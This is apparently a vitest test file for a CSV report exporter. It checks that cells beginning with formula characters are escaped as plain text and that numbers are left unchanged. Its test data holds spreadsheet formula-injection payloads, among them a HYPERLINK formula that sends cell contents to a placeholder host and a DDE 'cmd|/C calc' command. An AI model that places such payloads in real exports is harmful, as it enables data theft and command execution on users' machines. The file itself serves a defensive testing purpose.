import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../hub/reports/exporters.js';

describe('CSV exports', () => {
  it('write text that Excel would run as a formula as plain text, and leave numbers alone', () => {
    const hostile = ['=HYPERLINK("http://x/?"&A1,"Xem")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const csv = toCsv({
      name: 'Điểm cầu',
      columns: [{ header: 'Người báo cáo' }, { header: 'Số người' }],
      rows: [...hostile.map((name) => [name, 12]), ['Nguyễn Văn A', -3], ['a=b', 0]],
    });
    const rows: string[][] = parse(csv, { bom: true, from_line: 2 });
    expect(rows.slice(0, hostile.length).map(([name]) => name)).toEqual(hostile.map((name) => `'${name}`));
    expect(rows.slice(hostile.length)).toEqual([
      ['Nguyễn Văn A', '-3'],
      ['a=b', '0'],
    ]);
  });
});
